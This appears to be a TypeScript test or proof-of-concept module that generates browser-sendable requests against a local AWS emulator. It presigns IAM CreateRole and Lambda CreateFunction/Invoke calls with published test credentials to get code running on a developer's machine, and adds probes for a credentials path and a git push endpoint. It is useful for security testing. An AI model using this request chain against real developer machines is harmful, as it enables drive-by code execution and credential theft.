import { Sha256 } from '@aws-crypto/sha256-js';
import { SignatureV4 } from '@smithy/signature-v4';
import { strToU8, zipSync } from 'fflate';

/** What a web page can send without asking first: a GET, or a POST of one of the types that a form has. */
export interface Attack {
  name: string;
  method: 'GET' | 'POST';
  /** With its query. */
  path: string;
  /** text/plain, or application/x-www-form-urlencoded. */
  type?: string;
  body?: string;
}

/** Published: anybody can sign with them. */
const CREDENTIALS = { accessKeyId: 'test', secretAccessKey: 'test' };

const trust = (service: string) =>
  JSON.stringify({
    Version: '2012-10-17',
    Statement: [{ Effect: 'Allow', Principal: { Service: service }, Action: 'sts:AssumeRole' }],
  });

const createRole = (RoleName: string) => ({
  Action: 'CreateRole',
  Version: '2010-05-08',
  RoleName,
  AssumeRolePolicyDocument: trust('lambda.amazonaws.com'),
});

/** What the attacks call what they make. */
export const LOOT = { byUrl: 'by-url', byText: 'by-text', byForm: 'by-form', function: 'runs-code' };

/** The steps from a web page to code that runs on the developer's machine, and what else it could read. */
export async function attacksOn(endpoint: string): Promise<Attack[]> {
  const { host, hostname } = new URL(endpoint);

  async function presign(
    service: string,
    method: Attack['method'],
    path: string,
    query: Record<string, string>,
    body?: string,
  ): Promise<string> {
    const signer = new SignatureV4({
      service,
      region: 'us-east-1',
      credentials: CREDENTIALS,
      sha256: Sha256,
    });
    const signed = await signer.presign(
      {
        method,
        protocol: 'http:',
        hostname,
        path,
        query,
        headers: { host },
        ...(body === undefined ? {} : { body }),
      },
      { expiresIn: 3600 },
    );
    return `${path}?${new URLSearchParams(signed.query as Record<string, string>)}`.replaceAll('+', '%20');
  }

  const form = new URLSearchParams(createRole(LOOT.byForm)).toString();
  const code = Buffer.from(
    zipSync({ 'index.mjs': strToU8('export const handler = async () => process.pid;') }),
  ).toString('base64');
  const definition = JSON.stringify({
    FunctionName: LOOT.function,
    Handler: 'index.handler',
    Runtime: 'nodejs24.x',
    Role: `arn:aws:iam::000000000000:role/${LOOT.byUrl}`,
    Code: { ZipFile: code },
  });
  const functions = '/2015-03-31/functions';
  const invocations = `${functions}/${LOOT.function}/invocations`;
  const text = 'text/plain;charset=UTF-8';
  return [
    {
      name: 'CreateRole by a URL',
      method: 'GET',
      path: await presign('iam', 'GET', '/', createRole(LOOT.byUrl)),
    },
    {
      name: 'CreateRole by text/plain',
      method: 'POST',
      path: await presign('iam', 'POST', '/', createRole(LOOT.byText), 'x=1'),
      type: text,
      body: 'x=1',
    },
    {
      name: 'CreateRole by a form',
      method: 'POST',
      path: await presign('iam', 'POST', '/', {}, form),
      type: 'application/x-www-form-urlencoded',
      body: form,
    },
    {
      name: 'CreateFunction',
      method: 'POST',
      path: await presign('lambda', 'POST', functions, {}, definition),
      type: text,
      body: definition,
    },
    {
      name: 'Invoke',
      method: 'POST',
      path: await presign('lambda', 'POST', invocations, {}, '{}'),
      type: text,
      body: '{}',
    },
    { name: 'reading the credentials', method: 'GET', path: '/_landfall/health' },
    {
      name: 'asking git for what may be pushed',
      method: 'GET',
      path: '/git/webapp.git/info/refs?service=git-receive-pack',
    },
    {
      name: 'pushing to git',
      method: 'POST',
      path: '/git/webapp.git/git-receive-pack',
      type: 'text/plain',
      body: '0000',
    },
  ];
}
